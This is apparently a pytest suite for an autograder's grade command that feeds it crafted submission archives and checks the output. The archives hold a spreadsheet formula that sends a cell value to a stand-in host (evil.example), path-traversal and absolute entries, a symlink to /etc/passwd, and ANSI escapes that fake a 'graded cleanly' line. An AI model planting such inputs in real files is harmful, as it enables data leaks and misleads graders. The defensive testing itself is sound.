"""Hostile names and odd notebook files, graded by the command's `main`: every student is graded or skipped
with a note, ids are safe, and nothing a student names reaches a spreadsheet formula or the terminal raw."""
import contextlib
import csv
import io
import json
import os
import zipfile
from types import SimpleNamespace

import nbformat
import pytest

from autograder import cli
from grader_class import TIMEOUT, UNREADABLE, WRONG_SQUEEZE, solved, with_cells

pytestmark = [pytest.mark.needs_course, pytest.mark.slow]

SAFE_ID = r"^[A-Za-z0-9_@+][A-Za-z0-9._@+-]{0,99}$"
LONG = "l" * 300
INJECTION = '=HYPERLINK("evil.example?x="&A1,"click")'
ANSI = "\x1b[2J\x1b[1;1HAll submissions graded cleanly\x1b[8m"


def text(notebook) -> bytes:
    return nbformat.writes(notebook).encode()


def with_utf8_flag_and_bad_bytes(archive, placeholder: str, raw: bytes) -> None:
    """Replace a placeholder in the entry names by bytes that are not UTF-8, keeping the UTF-8 flag set."""
    data = archive.read_bytes()
    archive.write_bytes(data.replace(placeholder.encode(), raw))


def grade_command(submissions, out) -> SimpleNamespace:
    """`python -m autograder grade ...` run by its `main` in this process, so the suite's kept warm sandboxes grade
    it; what it prints is written as a real standard output writes it (UTF-8, strict), then read back."""
    streams = {name: io.TextIOWrapper(io.BytesIO(), encoding="utf-8", errors="strict", write_through=True)
               for name in ("stdout", "stderr")}
    with contextlib.redirect_stdout(streams["stdout"]), contextlib.redirect_stderr(streams["stderr"]):
        code = cli.main(["grade", str(submissions), "--out", str(out), "--timeout", str(TIMEOUT), "--workers", "1",
                         "--gradebook", str(out / "gradebook.db"), "--no-progress"])
    printed = {name: stream.buffer.getvalue().decode("utf-8") for name, stream in streams.items()}
    return SimpleNamespace(returncode=code, **printed)


def table(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture(scope="module")
def zipped(tmp_path_factory):
    base = tmp_path_factory.mktemp("names")
    archive = base / "class.zip"
    right, wrong = text(solved()), text(with_cells(solved(), WRONG_SQUEEZE))
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr(f"submitted/{LONG}/attention/01_squeeze.ipynb", right)
        zf.writestr(f"submitted/{LONG}/attention/{'n' * 300}.ipynb", right)
        zf.writestr("submitted/clash", b"a file")
        zf.writestr("submitted/clash/attention/01_squeeze.ipynb", right)  # a folder where a file is
        zf.writestr("submitted/clash2/attention/01_squeeze.ipynb", wrong)
        zf.writestr("submitted/clash2/attention", b"a file where a folder is")
        zf.writestr("submitted/bädXX/attention/01_squeeze.ipynb", right)
        zf.writestr("submitted/a b/attention/01_squeeze.ipynb", right)
        zf.writestr("submitted/a_b/attention/01_squeeze.ipynb", wrong)
        zf.writestr(f"submitted/{INJECTION}/attention/01_squeeze.ipynb", UNREADABLE)  # only its name matters
        zf.writestr("submitted/@SUM(1+1)/attention/02_excitation.ipynb", b"")
        zf.writestr(f"submitted/{ANSI}/attention/00_nothing.txt", b"")
        zf.writestr("submitted/../../escape/attention/01_squeeze.ipynb", right)
        zf.writestr("/abs/attention/01_squeeze.ipynb", right)
        link = zipfile.ZipInfo("submitted/linked/attention/01_squeeze.ipynb")
        link.external_attr = 0o120777 << 16
        zf.writestr(link, "/etc/passwd")
        zf.writestr("submitted/honest/attention/01_squeeze.ipynb", right)
    with_utf8_flag_and_bad_bytes(archive, "XX", b"\xff\xfe")
    out = base / "results"
    return grade_command(archive, out), out


def test_the_batch_completes_with_every_student_and_a_note_for_every_skip(zipped):
    result, out = zipped
    assert result.returncode == 0, result.stderr[-3000:]
    rows = {row["student_id"]: row for row in table(out / "grades.csv")}
    assert len(rows) == 9, sorted(rows)  # long, clash2, bad utf-8, a b, a_b, injection, @SUM, ansi, honest
    squeeze = {row["student_id"]: row for row in table(out / "scores.csv") if row["exercise"] == "squeeze"}
    assert squeeze["honest"]["status"] == "passed"
    long_id = next(s for s in rows if s.startswith("lll"))
    assert squeeze[long_id]["status"] == "passed" and len(long_id) <= 100
    assert squeeze["bad"]["status"] == "passed" and rows["bad"]["display_name"] == "bäd\ufffd\ufffd"
    assert squeeze["clash2"]["status"] == "failed"
    assert "linked" not in rows
    for skipped in ("symbolic link", "outside the archive", "cannot be written", "already there", "shortened"):
        assert skipped in result.stdout, skipped
    assert not (out.parent / "escape").exists() and not (out / "escape").exists()


def test_every_id_is_safe_and_unique_and_duplicates_after_sanitising_are_both_graded(zipped):
    result, out = zipped
    rows = table(out / "grades.csv")
    ids = [row["student_id"] for row in rows]
    assert len(set(ids)) == len(ids)
    import re

    assert all(re.match(SAFE_ID, s) for s in ids), ids
    names = {row["display_name"]: row["student_id"] for row in rows}
    assert names["a b"] != names["a_b"] and {names["a b"], names["a_b"]} >= {"a_b"}
    squeeze = {row["student_id"]: row["status"] for row in table(out / "scores.csv") if row["exercise"] == "squeeze"}
    assert squeeze[names["a b"]] == "passed" and squeeze[names["a_b"]] == "failed"
    assert {p.stem for p in (out / "students").glob("*.json")} == set(ids)
    assert "would repeat another student's" in result.stdout


def test_no_csv_cell_starts_a_formula_and_the_csvs_still_name_the_student(zipped):
    _, out = zipped
    for name in ("grades.csv", "scores.csv"):
        for row in table(out / name):
            for value in row.values():
                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
    names = {row["display_name"] for row in table(out / "grades.csv")}
    assert "'" + INJECTION in names and "'@SUM(1+1)" in names


def test_the_summary_cannot_be_rewritten_by_escape_sequences(zipped):
    result, _ = zipped
    assert "\x1b" not in result.stdout and "\\x1b[2J" in result.stdout


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    """A folder (not a zip) with a student folder whose name is not UTF-8, and notebooks saved oddly."""
    base = tmp_path_factory.mktemp("odd-files")
    root = base / "class"
    root.mkdir()
    not_utf8 = os.path.join(os.fsencode(root), b"caf\xe9")
    os.makedirs(os.path.join(not_utf8, b"attention"))
    nbformat.write(solved(), os.fsdecode(os.path.join(not_utf8, b"attention", b"01_squeeze.ipynb")))
    odd = root / "odd_files" / "attention"  # one student, one oddity per notebook
    odd.mkdir(parents=True)
    (odd / "01_squeeze.ipynb").write_bytes(b"\xef\xbb\xbf" + text(solved()).replace(b"\n", b"\r\n"))  # Windows
    (odd / "02_excitation.ipynb").write_text(nbformat.writes(solved("02_excitation"), version=3), encoding="utf-8")
    out = base / "results"
    return grade_command(root, out), out


def test_a_folder_name_that_is_not_utf8_is_graded_and_saved(folder):
    result, out = folder
    assert result.returncode == 0, result.stderr[-3000:]
    rows = {row["student_id"]: row for row in table(out / "grades.csv")}
    assert "caf" in rows and rows["caf"]["display_name"] == "caf\ufffd"
    assert json.loads((out / "students" / "caf.json").read_text("utf-8"))["student"] == "caf"


@pytest.mark.parametrize("student, exercise", [("caf", "squeeze"), ("odd_files", "squeeze"),
                                               ("odd_files", "excitation")],
                         ids=["not-utf8-folder", "windows-bom-crlf", "nbformat3"])
def test_notebooks_saved_by_windows_editors_and_nbformat3_are_graded(folder, student, exercise):
    _, out = folder
    rows = {(row["student_id"], row["exercise"]): row for row in table(out / "scores.csv")}
    assert rows[student, exercise]["status"] == "passed", rows[student, exercise]
